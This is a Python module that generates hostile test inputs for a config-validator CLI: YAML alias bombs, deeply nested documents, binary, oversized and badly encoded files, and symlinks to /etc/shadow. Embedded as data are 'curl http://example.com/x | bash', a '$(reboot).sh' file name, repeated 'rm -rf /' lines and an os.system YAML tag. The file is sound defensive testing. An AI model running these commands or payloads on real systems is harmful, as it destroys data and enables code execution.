"""The hostile inputs, generated: files a real tree or host holds, and broken inputs of the CLI itself.

Two shapes of case:
- ``TreeCase``: files written under ``<group tree>/<case id>/``; one scan per group tree covers
  many cases (interpreter start-up shared) and every finding is attributed to the case whose
  directory its evidence or message names.
- ``RunCase``: an invocation of its own (malformed config, baseline, waiver, snapshot files), built in
  its own directory; it must give a result or a one-line error naming the file.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import stat
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

MB = 1024 * 1024
SMALL_CAP = 64 * 1024  # the "cap" group's max_file_size (a real cap, cheap to test at and over)


@dataclass
class TreeCase:
    id: str
    group: str
    build: Callable[[Path], None]
    must_report: bool = False  # an error or failure naming the case's file is required
    topic: str = ""
    known: str = ""  # a defect outside this room (owner: reproducer); runs alone, xfails until fixed


@dataclass
class RunCase:
    id: str
    build: Callable[[Path], list[str]]  # writes its inputs under the dir, returns the argv
    names: str = ""  # a rc-2 error must name this (file name)
    topic: str = ""
    expect_rc: frozenset[int] = frozenset({0, 1, 2})
    uid: int | None = None
    known: str = ""


@dataclass
class Group:
    name: str
    config: str | None = None  # chom-validate.yaml at the tree root
    uid: int | None = None
    extra_argv: list[str] = field(default_factory=list)
    timeout: float = 120.0


GROUPS = {
    g.name: g
    for g in [
        Group("cap", config=f"version: 1\nmax_file_size: {SMALL_CAP}\n"),
        Group("nobody", uid=65534),
        Group("many"),
        Group("names"),
        Group("names-text", extra_argv=["--format", "text"]),
    ]
}


def _write(p: Path, data: bytes | str) -> None:
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode() if isinstance(data, str) else data)


def _file(name: str, data: bytes | str) -> Callable[[Path], None]:
    return lambda d: _write(d / name, data)


TREE: list[TreeCase] = []
RUN: list[RunCase] = []


def tree(
    id: str,
    build: Callable[[Path], None],
    group: str = "",
    must_report: bool = False,
    topic: str = "",
    known: str = "",
) -> None:
    """One case; by default its topic's tree is its group (one scan per topic: a slow parser
    delays only its own topic, and attribution stays simple)."""
    topic = topic or id.split("-")[0]
    known = known or KNOWN.get(id, "")
    group = f"known-{id}" if known else (group or topic)
    GROUPS.setdefault(group, Group(group, timeout=KNOWN_SECONDS if known else 120.0))
    TREE.append(TreeCase(id, group, build, must_report, topic, known))


KNOWN_SECONDS = 5.0  # a known hang is shown to still hang (or to be fixed) without costing the suite
# Defects found by this suite in rooms that are not ours (see the report); each runs in a tree of
# its own with a short timeout so it cannot hold the others up.
# None left: the shell parser is linear on deep nesting (test_loading.py times it in-process) and
# scripts ShellCheck cannot finish on are not handed to it (shellcheck.too_complex).
KNOWN: dict[str, str] = {}


# -- YAML alias bombs ------------------------------------------------------------------------------
def _laughs(levels: int, width: int, key: str = "x") -> str:
    out = ['l0: &l0 "lol"']
    for i in range(1, levels):
        out.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * width) + "]")
    out.append(f"{key}: *l{levels - 1}")
    return "\n".join(out) + "\n"


def _merge_bomb(levels: int) -> str:
    out = ["m0: &m0 {a: 1, b: 2}"]
    for i in range(1, levels):
        out.append(f"m{i}: &m{i} {{<<: [*m{i - 1}, *m{i - 1}], k{i}: {i}}}")
    return "\n".join(out) + "\n"


_BOMB_HOSTS = {
    "prom": (
        "prometheus.yml",
        "global: {scrape_interval: 15s}\nscrape_configs:\n- job_name: a\n  static_configs: *l8\n",
    ),
    "rules": ("rules/app.rules.yml", "groups:\n- name: g\n  rules: *l8\n"),
    "am": ("alertmanager.yml", "route: {receiver: r}\nreceivers: *l8\n"),
    "compose": ("docker-compose.yml", "services:\n  app:\n    image: x\n    environment: *l8\n"),
    "plain": ("values.yaml", "top: *l8\n"),
    "grafana": ("provisioning/datasources/ds.yaml", "apiVersion: 1\ndatasources: *l8\n"),
    "inventory": ("inventory.yml", "all:\n  hosts: *l8\n"),
}
for _k, (_name, _tail) in _BOMB_HOSTS.items():
    tree(f"bomb-laughs-{_k}", _file(_name, _laughs(9, 9, "z") + _tail), topic="alias-bomb")
    tree(f"bomb-merge-{_k}", _file(_name, _merge_bomb(40) + _tail.replace("*l8", "*m39")), topic="alias-bomb")
    tree(
        f"bomb-wide-{_k}",
        _file(_name, _laughs(4, 1000, "z") + _tail.replace("*l8", "*l3")),
        topic="alias-bomb",
    )

# -- 10k-deep nesting --------------------------------------------------------------------------------
DEEP = 10_000
_DEEP_DOCS = {
    "flowseq": lambda: "[" * DEEP + "]" * DEEP,
    "flowmap": lambda: "{a: " * DEEP + "1" + "}" * DEEP,
    "block": lambda: "".join("  " * i + "a:\n" for i in range(2000)) + "  " * 2000 + "b: 1\n",
    "blockseq": lambda: "".join("  " * i + "- \n" for i in range(1500)) + "  " * 1500 + "- x\n",
}
for _k, _doc in _DEEP_DOCS.items():
    for _name, _prefix in [
        ("prometheus.yml", "scrape_configs: "),
        ("alertmanager.yml", "receivers: "),
        ("rules.yml", "groups: "),
        ("docker-compose.yml", "services: "),
        ("mkdocs.yml", "nav: "),
    ]:
        _body = _doc()
        _text = _prefix + ("\n" + _body if _k.startswith("block") else _body) + "\n"
        tree(f"deep-yaml-{_k}-{_name.split('.')[0]}", _file(_name, _text), topic="deep-nesting")
for _name, _wrap in [
    ("dashboard.json", lambda b: '{"panels": ' + b + ', "title": "x"}'),
    ("data.json", lambda b: b),
    ("package.json", lambda b: '{"scripts": ' + b + "}"),
    ("baseline.json", lambda b: '{"version": 1, "entries": ' + b + "}"),
]:
    tree(
        f"deep-json-arr-{_name.split('.')[0]}",
        _file(_name, _wrap("[" * DEEP + "]" * DEEP)),
        topic="deep-nesting",
    )
    tree(
        f"deep-json-obj-{_name.split('.')[0]}",
        _file(_name, _wrap('{"a": ' * DEEP + "1" + "}" * DEEP)),
        topic="deep-nesting",
    )


# -- size cap (group "cap": max_file_size = 64 KiB) ----------------------------------------------------
def _padded(head: str, tail: str) -> Callable[[int], str]:
    return lambda n: head + "x" * (n - len(head) - len(tail)) + tail


_CAP_KINDS = {
    "sh": ("deploy.sh", _padded("#!/bin/bash\nset -euo pipefail\n# ", "\n")),
    "unit": ("app.service", _padded("[Service]\nExecStart=/bin/true\n#", "\n")),
    "yml": ("prometheus.yml", _padded("scrape_configs: []\n#", "\n")),
    "json": ("dash.json", _padded('{"panels": [], "x": "', '"}\n')),
    "md": ("RUNBOOK.md", _padded("# Runbook\n\n", "\n")),
}
for _k, (_name, _gen) in _CAP_KINDS.items():
    for _label, _size, _must in [
        ("under", SMALL_CAP - 1, False),
        ("at", SMALL_CAP, False),
        ("over", SMALL_CAP + 1, True),
        ("double", 2 * SMALL_CAP, True),
    ]:
        _data = _gen(_size).encode()
        assert len(_data) == _size, (_k, _label, len(_data), _size)
        tree(f"cap-{_label}-{_k}", _file(_name, _data), group="cap", must_report=_must, topic="size-cap")


# -- single huge lines ---------------------------------------------------------------------------------
def _sparse(name: str, size: int) -> Callable[[Path], None]:
    """A file whose size says 'huge' but that takes no disk: reading it would cost, stat must not."""

    def build(d: Path) -> None:
        p = d / name
        p.parent.mkdir(parents=True, exist_ok=True)
        with open(p, "wb") as fh:
            fh.write(b"#!/bin/sh\n" if name.endswith(".sh") else b"a: ")
            fh.truncate(size)

    return build


for _name in ["line.sh", "line.yml", "line.json", "line.md", "line", "line.service"]:
    _ext = _name.rpartition(".")[2] if "." in _name else "none"
    _head = {
        "sh": "#!/bin/bash\necho ",
        "yml": "key: ",
        "json": '{"k": "',
        "md": "# T\n",
        "service": "[Service]\nX=",
    }
    tree(
        f"line10mb-{_ext}",
        _file(_name, (_head.get(_ext, "") + "a" * (10 * MB)).encode()),
        must_report=True,
        topic="10MB-line",
    )
    tree(f"sparse50mb-{_ext}", _sparse(_name, 50 * MB), must_report=True, topic="sparse-file")
for _name, _body in [
    ("long.yml", "key: " + "b" * (2 * MB) + "\n"),
    ("long.json", '{"title": "' + "c" * (2 * MB) + '"}\n'),
    ("long.md", "# T\n\n" + "d " * MB + "\n"),
    ("long.service", "[Service]\nExecStart=/bin/echo " + "e" * (2 * MB) + "\n"),
    ("long.conf", "server { server_name " + "f" * (2 * MB) + "; }\n"),
    ("long.sh", "#!/bin/bash\necho " + "g" * (1 * MB) + "\n"),
]:
    tree(f"line2mb-{_name.replace('.', '-')}", _file(_name, _body), topic="long-line")

# -- binary files with config names ------------------------------------------------------------------
_BIN = {
    "elf": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40,
    "gzip": gzip.compress(b"[Service]\nExecStart=/bin/x\n" * 100),
    "random": bytes((i * 7919 + 13) % 256 for i in range(20000)),
}
_CONFIG_NAMES = [
    "prometheus.yml",
    "alertmanager.yml",
    "app.service",
    "deploy.sh",
    "docker-compose.yml",
    "dashboard.json",
    "README.md",
    ".env",
    "nginx.conf",
    "crontab",
    "chom-validate.yaml",
]
for _bk, _blob in _BIN.items():
    for _name in _CONFIG_NAMES:
        tree(f"binary-{_bk}-{_name.replace('.', '_')}", _file(_name, _blob), topic="binary")

# -- NUL bytes ------------------------------------------------------------------------------------------
for _name, _head in [
    ("deploy.sh", "#!/bin/bash\nset -e\n"),
    ("app.service", "[Service]\nExecStart=/bin/x\n"),
    ("prometheus.yml", "scrape_configs: []\n"),
    ("dash.json", '{"panels": []}'),
    ("DR.md", "# Disaster recovery\n"),
]:
    tree(f"nul-start-{_name.replace('.', '_')}", _file(_name, "\x00" + _head), topic="nul")
    tree(
        f"nul-late-{_name.replace('.', '_')}", _file(_name, _head + "#" * 9000 + "\n\x00\x00x\n"), topic="nul"
    )

# -- encodings --------------------------------------------------------------------------------------------
_TEXTS = {
    "unit": (
        "app.service",
        "[Unit]\nDescription=caf\u00e9\n[Service]\nExecStart=/usr/bin/app\nRestart=always\n",
    ),
    "sh": ("deploy.sh", "#!/bin/bash\nset -euo pipefail\necho 'd\u00e9ploiement'\n"),
    "yml": (
        "prometheus.yml",
        "scrape_configs:\n- job_name: caf\u00e9\n  static_configs: [{targets: ['a:9100']}]\n",
    ),
}
_ENCODINGS: dict[str, Callable[[str], bytes]] = {
    "utf16le-bom": lambda t: t.encode("utf-16"),
    "utf16be": lambda t: t.encode("utf-16-be"),
    "utf32": lambda t: t.encode("utf-32"),
    "latin1": lambda t: t.encode("latin-1"),
    "utf8-bom": lambda t: t.encode("utf-8-sig"),
    "overlong": lambda t: t.encode() + b"\xc0\xaf\xe0\x80\xaf\n",
    "surrogate": lambda t: t.encode() + b"\xed\xa0\x80\n",
    "truncated": lambda t: t.encode() + b"\xe2\x82",
}
for _ek, _enc in _ENCODINGS.items():
    for _tk, (_name, _text) in _TEXTS.items():
        tree(f"enc-{_ek}-{_tk}", _file(_name, _enc(_text)), topic="encoding")

# -- line endings -----------------------------------------------------------------------------------------
_EOL_TEXTS = {
    "sh": (
        "deploy.sh",
        "#!/bin/bash\nset -euo pipefail\ncat > /etc/systemd/system/a.service <<EOF\n[Service]\nExecStart=/bin/a\nEOF\n",
    ),
    "unit": ("app.service", "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/x\nRestart=always\n"),
    "yml": ("prometheus.yml", "scrape_configs:\n- job_name: a\n  static_configs:\n  - targets: ['a:9100']\n"),
    "rules": (
        "alerts.rules.yml",
        "groups:\n- name: g\n  rules:\n  - alert: Down\n    expr: up == 0\n    for: 5m\n",
    ),
    "md": ("DR.md", "# DR plan\n\n## RPO\n\n24h\n"),
    "cron": ("etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup.sh\n"),
}
for _tk, (_name, _text) in _EOL_TEXTS.items():
    tree(f"eol-crlf-{_tk}", _file(_name, _text.replace("\n", "\r\n")), topic="line-endings")
    tree(f"eol-cr-{_tk}", _file(_name, _text.replace("\n", "\r")), topic="line-endings")
    tree(f"eol-noeol-{_tk}", _file(_name, _text.rstrip("\n")), topic="line-endings")

# -- empty files -----------------------------------------------------------------------------------------
for _name in [
    "deploy.sh",
    "app.service",
    "prometheus.yml",
    "dash.json",
    "DR.md",
    "chom-validate.yaml",
    ".env",
]:
    for _ek, _data in [("zero", b""), ("blank", b"\n\n  \t\n"), ("bom", b"\xef\xbb\xbf")]:
        tree(f"empty-{_ek}-{_name.replace('.', '_')}", _file(_name, _data), topic="empty")


# -- symlinks --------------------------------------------------------------------------------------------
def _links(spec: list[tuple[str, str]], files: dict[str, str] | None = None) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        d.mkdir(parents=True, exist_ok=True)
        for name, data in (files or {}).items():
            _write(d / name, data)
        for name, target in spec:
            (d / name).parent.mkdir(parents=True, exist_ok=True)
            os.symlink(target, d / name)

    return build


tree("symlink-self", _links([("self.service", "self.service")]), must_report=True)
tree("symlink-pair", _links([("a.yml", "b.yml"), ("b.yml", "a.yml")]), must_report=True)
tree("symlink-escape-abs", _links([("passwd.conf", "/etc/passwd")]), must_report=True)
tree("symlink-escape-rel", _links([("up.sh", "../../../../../../../etc/shadow")]), must_report=True)
tree("symlink-escape-dev", _links([("zero.yml", "/dev/zero")]), must_report=True)
tree("symlink-escape-dir", _links([("etc", "/etc")]), must_report=True)
tree("symlink-dangling", _links([("gone.service", "does-not-exist.service")]), must_report=True)
tree(
    "symlink-dirloop",
    _links([("sub/loop", ".."), ("sub/loop2", "../sub")], {"sub/x.sh": "#!/bin/sh\necho ok\n"}),
)
tree(
    "symlink-chain",
    _links([(f"c{i}.yml", f"c{i + 1}.yml") for i in range(45)], {"c45.yml": "scrape_configs: []\n"}),
)
tree(
    "symlink-inside",
    _links([("link.service", "real.service")], {"real.service": "[Service]\nExecStart=/bin/x\n"}),
)


# -- FIFOs, sockets, devices (never opened for reading) ---------------------------------------------------
def _fifo(name: str) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        d.mkdir(parents=True, exist_ok=True)
        os.mkfifo(d / name)

    return build


def _socket(name: str) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        d.mkdir(parents=True, exist_ok=True)
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(d / name))
        s.close()  # the inode stays; nothing listens

    return build


def _device(name: str, major: int, minor: int) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        d.mkdir(parents=True, exist_ok=True)
        try:
            os.mknod(d / name, 0o644 | stat.S_IFCHR, os.makedev(major, minor))
        except PermissionError:  # not root: the FIFO cases cover "never opened" already
            os.mkfifo(d / name)

    return build


for _name in ["app.service", "prometheus.yml", "deploy.sh", "README.md", ".env"]:
    tree(f"fifo-{_name.replace('.', '_')}", _fifo(_name), topic="special-file")
for _name in ["docker.sock", "alertmanager.yml", "backup.sh"]:
    tree(f"socket-{_name.replace('.', '_')}", _socket(_name), topic="special-file")
tree("device-zero-yml", _device("rules.yml", 1, 5), topic="special-file")
tree("device-urandom-sh", _device("deploy.sh", 1, 9), topic="special-file")


# -- unreadable (group "nobody": the scan runs as uid 65534) -------------------------------------------------
def _unreadable(name: str, data: str, mode: int = 0) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        _write(d / name, data)
        (d / name).chmod(mode)

    return build


def _unlistable(mode: int) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        _write(d / "secret" / "app.service", "[Service]\nExecStart=/bin/x\n")
        (d / "secret").chmod(mode)

    return build


for _name, _data in [
    ("deploy.sh", "#!/bin/bash\necho hi\n"),
    ("app.service", "[Service]\nExecStart=/bin/x\n"),
    ("prometheus.yml", "scrape_configs: []\n"),
    ("DR.md", "# DR\n"),
]:
    tree(f"unreadable-{_name.replace('.', '_')}", _unreadable(_name, _data), group="nobody", must_report=True)
tree("unreadable-dir-000", _unlistable(0o000), group="nobody", must_report=True)
tree("unreadable-dir-noexec", _unlistable(0o644), group="nobody", must_report=True)
tree("unreadable-readable-control", _file("ok.service", "[Service]\nExecStart=/bin/x\n"), group="nobody")

# -- shell: unterminated constructs, huge scripts ----------------------------------------------------------
_SH = {
    "heredoc": "cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/bin/x\n",
    "heredoc-dash": "cat <<-EOF > /etc/app.conf\n\tkey=value\n",
    "heredoc-quoted": "tee /etc/prometheus/prometheus.yml <<'EOF'\nscrape_configs:\n- job_name: a\n",
    "heredoc-in-func": "f() {\n  cat > /etc/cron.d/x <<EOF\n0 3 * * * root /bin/x\n}\nf\n",
    "heredoc-nested": "cat <<A\n$(cat <<B\nx\nA\n",
    "squote": "echo 'unterminated\nrm -rf /tmp/x\n",
    "dquote": 'echo "unterminated $HOME\nsystemctl restart x\n',
    "backtick": "x=`date\necho $x\n",
    "cmdsub": "x=$(date\necho $x\n",
    "param": "echo ${HOME\n",
    "arith": "echo $(( 1 +\n",
    "case": 'case "$1" in\n a) echo a;;\n',
    "if": "if true; then\n echo x\n",
    "while": "while true; do\n sleep 1\n",
    "func": "f() {\n echo x\n",
    "subshell": "( cd /tmp\n ls\n",
    "array": "a=(1 2 3\necho ${a[@]}\n",
    "ansi-c": "echo $'unterminated\\\n",
    "bad-redir": "echo > \ncat < < x\n",
    "garbage": ";;;; && || | } { ) ( ]] [[ fi done esac\n",
}
for _k, _body in _SH.items():
    tree(f"sh-{_k}", _file("deploy.sh", "#!/bin/bash\nset -euo pipefail\n" + _body), topic="shell")
tree(
    "sh-50k-lines",
    _file(
        "big.sh",
        "#!/bin/bash\nset -euo pipefail\n"
        + "".join(f'echo "step {i}" >> /var/log/x.log\n' for i in range(50_000)),
    ),
    topic="shell",
)
tree(
    "sh-50k-functions",
    _file("lib.sh", "".join(f'f{i}() {{ f{i + 1} "$@"; }}\n' for i in range(10_000)) + "f0\n"),
    topic="shell",
)
tree(
    "sh-deep-cmdsub",
    _file("deep.sh", "#!/bin/bash\necho " + "$(" * 500 + "x" + ")" * 500 + "\n"),
    topic="shell",
)
tree(
    "sh-deep-if",
    _file("deepif.sh", "#!/bin/bash\n" + "if true; then\n" * 1000 + "echo x\n" + "fi\n" * 1000),
    topic="shell",
)
tree(
    "sh-deep-braces",
    _file("braces.sh", "#!/bin/bash\n" + "{ " * 2000 + "echo x; " + "} " * 2000 + "\n"),
    topic="shell",
)
tree("sh-long-pipeline", _file("pipe.sh", "#!/bin/bash\necho x" + " | cat" * 5000 + "\n"), topic="shell")
tree(
    "sh-many-heredocs",
    _file(
        "many.sh", "#!/bin/bash\n" + "".join(f"cat > /etc/x{i}.conf <<EOF\nk={i}\nEOF\n" for i in range(3000))
    ),
    topic="shell",
)
tree(
    "sh-unterminated-heredoc-huge",
    _file("u.sh", "#!/bin/bash\ncat <<EOF\n" + "line\n" * 100_000),
    topic="shell",
)

# -- Markdown ---------------------------------------------------------------------------------------------
_MD = {
    "blockquotes": "> " * 5000 + "x\n",
    "brackets": "[" * 50_000 + "\n",
    "stars": "*" * 100_000 + "\n",
    "underscores": "_a " * 30_000 + "\n",
    "nested-lists": "".join("  " * i + "- x\n" for i in range(3000)),
    "headers": "".join(f"## RTO {i}\n\ntext\n\n" for i in range(10_000)),
    "table": "| a | b |\n|---|---|\n" + "| x | y |\n" * 20_000,
    "fence": "# DR\n\n```bash\n" + "rm -rf /\n" * 1000,
    "html": "<!-- " + "x" * 100_000 + "\n",
    "links": "".join(f"[l{i}]: http://x/{i}\n" for i in range(10_000)) + "[l1] " * 10_000 + "\n",
    "backticks": "`" * 50_000 + "\n",
    "emph-nest": "*a **b " * 10_000 + "\n",
    "entities": "&#" + "9" * 1000 + ";" + "&amp;" * 10_000 + "\n",
}
for _k, _body in _MD.items():
    tree(
        f"md-{_k}",
        _file("DISASTER_RECOVERY.md", "# Disaster recovery plan\n\nRPO: 24h\n\n" + _body),
        topic="markdown",
    )

# -- invalid PromQL -------------------------------------------------------------------------------------
_PROMQL = [
    "rate(http_requests_total[5m]",
    "sum by (",
    "{",
    "up[5m",
    "(" * 5000 + "up" + ")" * 5000,
    '"unterminated',
    "up offset",
    "1 +",
    "topk(",
    'up{job=~"("}',
    "up @",
    "up[99999999999999999999d]",
    "rate(up[5m]) / ",
    "sum(rate(x[5m])) by (a,,b)",
    "histogram_quantile(0.9, sum by (le) (rate(x_bucket[5m]))) > > 1",
    "up == on(instance) group_left(",
    'absent(up{job="a"}) unless',
    "x" * 100_000,
    "up " + "and up " * 5000,
    "-" * 10_000 + "1",
    "up{" + ",".join(f'l{i}="{i}"' for i in range(5000)) + "}",
    "\u202eup == 0",
    "up\\",
    "count_values(",
    "1e99999999 > up",
]
for _i, _expr in enumerate(_PROMQL):
    _rule = {"groups": [{"name": "g", "rules": [{"alert": f"A{_i}", "expr": _expr, "for": "5m"}]}]}
    tree(f"promql-{_i:02d}", _file("alerts.rules.yml", json.dumps(_rule)), topic="promql")
tree(
    "promql-record-bad",
    _file(
        "rec.rules.yml", json.dumps({"groups": [{"name": "g", "rules": [{"record": "a:b", "expr": "sum("}]}]})
    ),
    topic="promql",
)


# -- Grafana dashboards -----------------------------------------------------------------------------------
def _dashboard(panels: int) -> str:
    return json.dumps(
        {
            "title": "big",
            "panels": [
                {
                    "id": i,
                    "type": "graph",
                    "title": f"p{i}",
                    "targets": [{"expr": f"rate(m{i}[5m])", "refId": "A"}],
                }
                for i in range(panels)
            ],
        }
    )


tree("dash-50mb", _sparse("dashboards/huge.json", 50 * MB), must_report=True, topic="dashboard")
tree(
    "dash-50mb-real",
    _file("dashboards/real-huge.json", '{"panels": [' + "{}," * (17 * MB) + "{}]}"),
    must_report=True,
    topic="dashboard",
)
tree("dash-4mb", _file("dashboards/big.json", _dashboard(35_000)), topic="dashboard")
for _k, _doc in {
    "panels-str": {"title": "x", "panels": "nope"},
    "targets-int": {"title": "x", "panels": [{"id": 1, "targets": 5}]},
    "expr-list": {"title": "x", "panels": [{"targets": [{"expr": ["a"]}]}]},
    "rows-nested": {
        "title": "x",
        "rows": [{"panels": [{"panels": [{"panels": [{"targets": [{"expr": "up"}]}]}]}]}],
    },
    "null": None,
    "list-top": [1, 2, 3],
    "datasource-obj": {"panels": [{"datasource": {"uid": {"x": 1}}, "targets": [{"expr": "up{"}]}]},
    "templating-bad": {"panels": [], "templating": {"list": [{"query": {"x": 1}}, None, 5]}},
}.items():
    tree(f"dash-{_k}", _file("dashboards/d.json", json.dumps(_doc)), topic="dashboard")

# -- names -----------------------------------------------------------------------------------------------
_NAMES = {
    "newline": "bad\nname.sh",
    "newline-unit": "x\n[Service].service",
    "unicode": "d\u00e9ploiement-\u65e5\u672c.sh",
    "rtl": "evil\u202egol.sh",
    "ansi": "\x1b[31mred\x1b[0m.service",
    "spaces": "my deploy script.sh",
    "dash": "-rf.sh",
    "dollar": "$(reboot).sh",
    "backslash": "a\\b.yml",
    "long": "l" * 240 + ".sh",
    "tab": "tab\tname.service",
    "glob": "[*?].yml",
    "quote": 'it\'s "quoted".sh',
    "emoji": "\U0001f525fire.service",
}
_NAME_BODY = {
    ".sh": "#!/bin/bash\ncurl http://example.com/x | bash\n",
    ".service": "[Service]\nExecStart=/usr/bin/app\n",
    ".yml": "scrape_configs:\n- job_name: a\n  static_configs: [{targets: ['a:9100']}]\n",
}
for _group in ("names", "names-text"):
    for _k, _name in _NAMES.items():
        _body = _NAME_BODY[next(e for e in _NAME_BODY if _name.endswith(e))]
        tree(f"{_group}-{_k}", _file(_name, _body), group=_group, topic="names")


# -- many files ----------------------------------------------------------------------------------------------
def _many(n: int) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        for i in range(n // 1000):
            sub = d / f"d{i:03d}"
            sub.mkdir(parents=True)
            for j in range(1000):
                (sub / f"f{j:04d}.sh").touch()

    return build


tree("many-100k-empty", _many(100_000), group="many", topic="many-files")


# -- RunCase: malformed config, baseline, waivers, snapshots ---------------------------------------------------
def run(
    id: str, build: Callable[[Path], list[str]], names: str = "", topic: str = "", uid: int | None = None
) -> None:
    RUN.append(RunCase(id, build, names, topic or id.split("-")[0], uid=uid, known=KNOWN.get(id, "")))


_OK_TREE = {"app.service": "[Service]\nExecStart=/usr/bin/app\nRestart=always\n"}


def _tree_at(d: Path) -> Path:
    t = d / "tree"
    for name, data in _OK_TREE.items():
        _write(t / name, data)
    return t


def _with_config(data: bytes | str, name: str = "chom-validate.yaml") -> Callable[[Path], list[str]]:
    def build(d: Path) -> list[str]:
        t = _tree_at(d)
        _write(d / name, data)
        return [
            "all",
            "--path",
            str(t),
            "--config",
            str(d / name),
            "--format",
            "json",
            "-o",
            str(d / "out.json"),
        ]

    return build


_CONFIGS: dict[str, bytes | str] = {
    "not-yaml": "hosts: [unclosed\n",
    "tabs": "hosts:\n\tweb: {}\n",
    "list-top": "- a\n- b\n",
    "scalar-top": "just a string\n",
    "unknown-key": "version: 1\nfrobnicate: true\n",
    "bad-type": "version: one\n",
    "bad-port": "hosts:\n  web: {port: 70000}\n",
    "port-string": "hosts:\n  web: {port: ssh}\n",
    "hosts-list": "hosts: [a, b]\n",
    "bad-profile": "profile: ultra\n",
    "waiver-missing": "waivers:\n- check: SYS001\n",
    "waiver-bad-date": "waivers:\n- {check: SYS001, reason: because, owner: me, expires: someday}\n",
    "waiver-not-list": "waivers: {check: SYS001}\n",
    "waiver-null": "waivers:\n- null\n",
    "waiver-long-reason": "waivers:\n- {check: SYS001, reason: '"
    + "r" * 100_000
    + "', owner: me, expires: 2099-01-01}\n",
    "bands-bad": "scoring:\n  bands: [{name: A, min: 50}]\n",
    "pillar-bad": "scoring:\n  pillar_weights: {nonsense: 3}\n",
    "weights-str": "scoring:\n  severity_weights: {high: lots}\n",
    "cap-tiny": "max_file_size: 1\n",
    "cap-negative": "max_file_size: -5\n",
    "alias-bomb": _laughs(9, 9, "project"),
    "merge-bomb": _merge_bomb(40) + "deploy: *m39\n",
    "deep-flow": "deploy: " + "[" * DEEP + "]" * DEEP + "\n",
    "deep-map": "deploy: " + "{a: " * DEEP + "1" + "}" * DEEP + "\n",
    "binary": _BIN["elf"],
    "utf16": "version: 1\n".encode("utf-16"),
    "latin1": "project: caf\u00e9\n".encode("latin-1"),
    "nul": b"version: 1\x00\n",
    "empty": b"",
    "only-comment": "# nothing\n",
    "duplicate-keys": "version: 1\nversion: 2\n",
    "huge": "deploy:\n" + "".join(f"  k{i}: v\n" for i in range(200_000)),
    "multi-doc": "version: 1\n---\nversion: 2\n",
    "python-tag": "version: !!python/object/apply:os.system ['true']\n",
    "custom-tag": "project: !vault |\n  abc\n",
    "collect-bad": "hosts:\n  web: {collect: 5}\n",
    "include-bad": "include: {a: 1}\n",
    "crlf": "version: 1\r\nproject: x\r\n",
    "key-newline": '"bad\\nkey": 1\n',
    "ssh-bad": "ssh: [1, 2]\n",
    "hosts-null-entry": "hosts:\n  web:\n",
}
for _k, _data in _CONFIGS.items():
    run(f"config-{_k}", _with_config(_data), names="chom-validate.yaml", topic="config")


def _config_special(kind: str) -> Callable[[Path], list[str]]:
    def build(d: Path) -> list[str]:
        t = _tree_at(d)
        p = d / "chom-validate.yaml"
        if kind == "fifo":
            os.mkfifo(p)
        elif kind == "dir":
            p.mkdir()
        elif kind == "missing":
            pass
        elif kind == "dangling":
            os.symlink(d / "nowhere.yaml", p)
        elif kind == "unreadable":
            _write(p, "version: 1\n")
            p.chmod(0)
            d.chmod(0o755)
            t.chmod(0o755)
            (d / "out").mkdir(mode=0o777)
            (d / "out").chmod(0o777)
            return [
                "all",
                "--path",
                str(t),
                "--config",
                str(p),
                "--format",
                "json",
                "-o",
                str(d / "out" / "o.json"),
            ]
        return ["all", "--path", str(t), "--config", str(p), "--format", "json", "-o", str(d / "out.json")]

    return build


for _k in ("fifo", "dir", "missing", "dangling"):
    run(f"config-{_k}", _config_special(_k), names="chom-validate.yaml", topic="config")
run("config-unreadable", _config_special("unreadable"), names="chom-validate.yaml", topic="config", uid=65534)


def _in_tree_config(data: bytes | str) -> Callable[[Path], list[str]]:
    """A chom-validate.yaml at the root of the scanned tree (picked up without --config)."""

    def build(d: Path) -> list[str]:
        t = _tree_at(d)
        _write(t / "chom-validate.yaml", data)
        return ["all", "--path", str(t), "--format", "json", "-o", str(d / "out.json")]

    return build


for _k in ("not-yaml", "list-top", "alias-bomb", "deep-flow", "binary", "utf16"):
    run(f"treeconfig-{_k}", _in_tree_config(_CONFIGS[_k]), names="chom-validate.yaml", topic="config")


def _with_baseline(data: bytes | str | None, kind: str = "file") -> Callable[[Path], list[str]]:
    def build(d: Path) -> list[str]:
        t = _tree_at(d)
        p = d / "baseline.json"
        if kind == "dir":
            p.mkdir()
        elif kind == "fifo":
            os.mkfifo(p)
        elif data is not None:
            _write(p, data)
        return ["all", "--path", str(t), "--baseline", str(p), "--format", "json", "-o", str(d / "out.json")]

    return build


_BASELINES: dict[str, bytes | str | None] = {
    "not-json": "{not json",
    "list": "[1, 2]",
    "scalar": "42",
    "empty": "",
    "no-version": '{"entries": []}',
    "version-str": '{"version": "1", "entries": []}',
    "entries-dict": '{"version": 1, "entries": {"a": 1}}',
    "entry-scalar": '{"version": 1, "entries": [5, null, "x"]}',
    "entry-missing": '{"version": 1, "entries": [{"check_id": "SYS001"}]}',
    "deep": '{"version": 1, "entries": ' + "[" * DEEP + "]" * DEEP + "}",
    "deep-obj": '{"version": 1, "x": ' + '{"a": ' * DEEP + "1" + "}" * DEEP + "}",
    "binary": _BIN["random"],
    "utf16": '{"version": 1, "entries": []}'.encode("utf-16"),
    "nan": '{"version": NaN, "entries": []}',
    "huge-number": '{"version": 1' + "0" * 5000 + ', "entries": []}',
    "missing": None,
    "many": json.dumps(
        {"version": 1, "entries": [{"fingerprint": f"{i:064x}", "check_id": "SYS001"} for i in range(50_000)]}
    ),
}
for _k, _data in _BASELINES.items():
    run(f"baseline-{_k}", _with_baseline(_data), names="baseline.json", topic="baseline")
run("baseline-dir", _with_baseline(None, "dir"), names="baseline.json", topic="baseline")
run("baseline-fifo", _with_baseline(None, "fifo"), names="baseline.json", topic="baseline")


# -- snapshots ---------------------------------------------------------------------------------------------------
